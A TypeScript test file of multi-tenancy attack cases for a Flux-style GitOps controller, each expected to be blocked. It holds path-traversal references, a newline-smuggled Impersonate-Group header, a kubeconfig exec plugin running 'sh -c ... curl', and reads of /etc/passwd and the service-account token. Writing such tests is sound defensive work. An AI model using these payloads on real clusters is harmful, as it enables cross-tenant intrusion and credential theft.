import { existsSync } from 'node:fs'
import { expect } from 'vitest'
import {
  type Attack,
  absent,
  both,
  condition,
  configMap,
  ends,
  fails,
  sourceFails,
} from './attack.ts'
import { CANARY } from './world.ts'

const BLOCKED = /cross-namespace references have been blocked/
const files = (name: string) => ({ 'a.yaml': configMap(name) })

function kubeconfig(name: string, server: string, user: string, cluster = ''): string {
  const text = JSON.stringify({
    'current-context': 'c',
    contexts: [{ name: 'c', context: { cluster: 'c', user: 'u' } }],
    clusters: [{ name: 'c', cluster: { server, ...(cluster === '' ? {} : JSON.parse(cluster)) } }],
    users: [{ name: 'u', user: JSON.parse(user) as unknown }],
  })
  return `apiVersion: v1\nkind: Secret\nmetadata: {name: ${name}, namespace: tenant-a}\nstringData: {value: '${text}'}\n`
}

function remote(
  name: string,
  does: string,
  user: string,
  want: Attack['want'],
  cluster = '',
): Attack {
  return {
    name,
    does,
    files: files(name),
    objects: (world) => kubeconfig(name, `${world.internal.url}/${name}`, user, cluster),
    spec: `kubeConfig: {secretRef: {name: ${name}}}\n  retryInterval: 1h`,
    want,
  }
}

/** References to what is another tenant's, and names that pretend to be somebody else. */
export const REFERENCES: readonly Attack[] = [
  ...['GitRepository', 'OCIRepository', 'Bucket', 'ExternalArtifact'].map(
    (kind): Attack => ({
      name: `source-${kind.toLowerCase()}`,
      does: `takes its files from a ${kind} of another namespace`,
      spec: `sourceRef: {kind: ${kind}, namespace: tenant-b, name: victim}`,
      want: both(fails(BLOCKED), absent('ConfigMap', 'tenant-a', 'from-git')),
    }),
  ),
  {
    name: 'source-name-slash',
    does: 'names a source of another namespace by a path in its name',
    spec: 'sourceRef: {kind: GitRepository, name: ../tenant-b/victim}',
    want: fails(/not found/),
  },
  {
    name: 'depends-foreign',
    does: 'waits for a Kustomization of another namespace to learn whether it is ready',
    files: files('depends-foreign'),
    spec: 'dependsOn: [{name: victim, namespace: tenant-b}]',
    want: fails(BLOCKED),
  },
  {
    name: 'depends-leak',
    does: "puts another tenant's spec into its own message by a readyExpr that fails on it",
    files: files('depends-leak'),
    spec: `dependsOn: [{name: victim, namespace: tenant-b, readyExpr: "{'x': true}[dep.spec.postBuild.substitute.hidden]"}]`,
    want: fails(BLOCKED),
  },
  {
    name: 'depends-leak-self',
    does: 'looks into the spec of a dependency by a readyExpr in its own namespace',
    files: files('depends-leak-self'),
    objects: () =>
      `apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata: {name: leaky, namespace: tenant-a}\nspec: {interval: 1h, prune: true, suspend: true, sourceRef: {kind: GitRepository, name: repo}, postBuild: {substitute: {hidden: ${CANARY.victimSpec}}}}\n`,
    spec: `dependsOn: [{name: leaky, readyExpr: "{'x': true}[dep.spec.postBuild.substitute.hidden]"}]`,
    want: fails(/no such key: spec/),
  },
  {
    name: 'depends-guess',
    does: 'asks whether a Kustomization of another namespace is there at all',
    files: files('depends-guess'),
    spec: 'dependsOn: [{name: nobody, namespace: tenant-b}]',
    want: fails(BLOCKED),
  },
  {
    name: 'substitute-foreign',
    does: 'names a namespace in substituteFrom',
    files: { 'a.yaml': configMap('substitute-foreign', 'data: {x: "${password}"}') },
    spec: 'postBuild: {substituteFrom: [{kind: Secret, name: victim, namespace: tenant-b}]}',
    want: both(
      fails(/not found|failed to create typed patch|unknown field|not declared/),
      absent('ConfigMap', 'tenant-a', 'substitute-foreign'),
    ),
  },
  {
    name: 'substitute-path',
    does: 'reaches into another namespace by a path in the name of substituteFrom',
    files: { 'a.yaml': configMap('substitute-path', 'data: {x: "${password}"}') },
    spec: 'postBuild: {substituteFrom: [{kind: Secret, name: ../../tenant-b/secrets/victim}]}',
    want: both(fails(/substitute from/), absent('ConfigMap', 'tenant-a', 'substitute-path')),
  },
  {
    name: 'decrypt-foreign',
    does: 'decrypts with the keys of another namespace by a path in the name of the Secret',
    files: files('decrypt-foreign'),
    spec: 'decryption: {provider: sops, secretRef: {name: ../../tenant-b/secrets/victim}}',
    want: fails(/./),
  },
  {
    name: 'decrypt-account',
    does: 'decrypts as a service account of another namespace',
    files: files('decrypt-account'),
    spec: "decryption: {provider: sops, serviceAccountName: 'tenant-b:gitops'}",
    want: fails(/./),
  },
  {
    name: 'kubeconfig-foreign',
    does: 'opens a cluster with the kubeconfig of another namespace',
    files: files('kubeconfig-foreign'),
    spec: 'kubeConfig: {secretRef: {name: ../../tenant-b/secrets/victim}}',
    want: fails(/unable to read KubeConfig secret/),
  },
  {
    name: 'health-foreign',
    does: "learns the state of another tenant's objects by a health check",
    files: files('health-foreign'),
    spec: 'timeout: 30s\n  healthChecks: [{apiVersion: v1, kind: Secret, name: victim, namespace: tenant-b}]',
    want: ({ object }) => expect(condition(object)?.message ?? '').not.toMatch(/Applied/),
  },
  {
    name: 'git-secret-foreign',
    does: "logs in to its own Git host with another namespace's Secret",
    spec: 'none',
    objects: (world) =>
      `apiVersion: source.toolkit.fluxcd.io/v1\nkind: GitRepository\nmetadata: {name: git-secret-foreign, namespace: tenant-a}\nspec: {interval: 1h, url: '${world.evil.url}/x.git', secretRef: {name: ../../tenant-b/secrets/victim}}\n`,
    want: both(sourceFails('GitRepository', /./), ({ world }) => {
      expect(world.evil.requests.join('\n')).not.toContain(
        Buffer.from(`u:${CANARY.victimSecret}`).toString('base64'),
      )
    }),
  },
  {
    name: 'git-include-foreign',
    does: "includes another tenant's repository in its own artifact",
    objects: (world) =>
      `apiVersion: source.toolkit.fluxcd.io/v1\nkind: GitRepository\nmetadata: {name: git-include-foreign, namespace: tenant-a}\nspec: {interval: 1h, url: '${world.git.url}/plain/tenant.git', ref: {branch: main}, include: [{repository: {name: ../tenant-b/victim}, fromPath: app, toPath: stolen}]}\n`,
    spec: 'none',
    want: sourceFails('GitRepository', /./),
  },
  {
    name: 'account-empty',
    does: 'gets around the default service account by an empty name',
    files: { 'a.yaml': 'apiVersion: v1\nkind: Namespace\nmetadata: {name: account-empty}\n' },
    spec: "serviceAccountName: ''",
    want: both(fails(/cannot|forbidden/), absent('Namespace', '', 'account-empty')),
  },
  ...(
    [
      ['account-full', 'system:serviceaccount:tenant-b:gitops'],
      ['account-colon', 'gitops:extra'],
      ['account-foreign', 'tenant-b:gitops'],
      ['account-path', '../tenant-b/gitops'],
      ['account-header', 'gitops\\nImpersonate-Group: system:masters'],
      ['account-user', 'system:admin'],
    ] as const
  ).map(
    ([name, account]): Attack => ({
      name,
      does: `is somebody else by the service account name ${JSON.stringify(account)}`,
      files: {
        'a.yaml': `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: ${name}, namespace: tenant-b}\n`,
      },
      spec: `serviceAccountName: "${account}"`,
      want: both(
        fails(/invalid service account name|must be/),
        absent('ConfigMap', 'tenant-b', name),
      ),
    }),
  ),
  {
    name: 'account-unknown',
    does: 'acts as a service account that does not exist',
    files: {
      'a.yaml':
        'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: account-unknown, namespace: tenant-a}\n',
    },
    spec: 'serviceAccountName: nobody',
    want: both(fails(/cannot|forbidden/), absent('ConfigMap', 'tenant-a', 'account-unknown')),
  },
  remote(
    'kubeconfig-exec',
    'runs a program on the controller by a credential plugin',
    '{"exec":{"apiVersion":"client.authentication.k8s.io/v1","command":"sh","args":["-c","touch /tmp/tidegate-attack-exec; curl $INTERNAL"]}}',
    both(ends, () => {
      expect(existsSync('/tmp/tidegate-attack-exec')).toBe(false)
    }),
  ),
  remote(
    'kubeconfig-provider',
    'makes the controller speak to an issuer by an auth provider',
    '{"auth-provider":{"name":"oidc","config":{"idp-issuer-url":"http://127.0.0.1:1/x","client-id":"a","refresh-token":"b"}}}',
    fails(/auth-provider/),
  ),
  remote(
    'kubeconfig-token-file',
    "uses the controller's own token by a token file",
    '{"tokenFile":"/var/run/secrets/kubernetes.io/serviceaccount/token"}',
    fails(/files are not read/),
  ),
  remote(
    'kubeconfig-key-file',
    'reads a file of the controller as a client key',
    '{"client-certificate":"/etc/passwd","client-key":"/etc/passwd"}',
    fails(/files are not read/),
  ),
  remote(
    'kubeconfig-ca-file',
    'reads a file of the controller as an authority',
    '{"token":"x"}',
    fails(/files are not read/),
    '{"certificate-authority":"/etc/passwd"}',
  ),
  {
    name: 'kubeconfig-self',
    does: 'points a kubeconfig without credentials back at the cluster, to be the controller there',
    files: { 'a.yaml': 'apiVersion: v1\nkind: Namespace\nmetadata: {name: kubeconfig-self}\n' },
    objects: () => kubeconfig('kubeconfig-self', 'https://kubernetes.default.svc', '{}'),
    spec: 'kubeConfig: {secretRef: {name: kubeconfig-self}}\n  retryInterval: 1h',
    want: both(fails(/./), absent('Namespace', '', 'kubeconfig-self')),
  },
  {
    name: 'kubeconfig-broken',
    does: 'has a kubeconfig quoted by a parser that cannot read it',
    files: files('kubeconfig-broken'),
    spec: 'kubeConfig: {secretRef: {name: login, key: password}}',
    want: fails(/./),
  },
  {
    name: 'kubeconfig-body',
    does: "reads an internal server's answer in its own condition, by a kubeconfig",
    files: files('kubeconfig-body'),
    objects: (world) => kubeconfig('kubeconfig-body', `${world.internal.url}/api`, '{"token":"x"}'),
    spec: 'kubeConfig: {secretRef: {name: kubeconfig-body}}\n  retryInterval: 1h',
    want: fails(/./),
  },
  {
    name: 'kubeconfig-map-account',
    does: 'proves itself to a cluster as a service account of another namespace',
    files: files('kubeconfig-map-account'),
    objects: () =>
      'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: kubeconfig-map-account, namespace: tenant-a}\ndata: {provider: generic, address: "https://127.0.0.1:1", serviceAccountName: ../../tenant-b/serviceaccounts/gitops}\n',
    spec: 'kubeConfig: {configMapRef: {name: kubeconfig-map-account}}',
    want: fails(/service account/),
  },
  {
    name: 'kubeconfig-map-plain',
    does: 'has a token of a service account sent without TLS',
    files: files('kubeconfig-map-plain'),
    objects: (world) =>
      `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: kubeconfig-map-plain, namespace: tenant-a}\ndata: {provider: generic, address: "${world.evil.url}", serviceAccountName: gitops}\n`,
    spec: 'kubeConfig: {configMapRef: {name: kubeconfig-map-plain}}',
    want: fails(/must use https scheme/),
  },
]
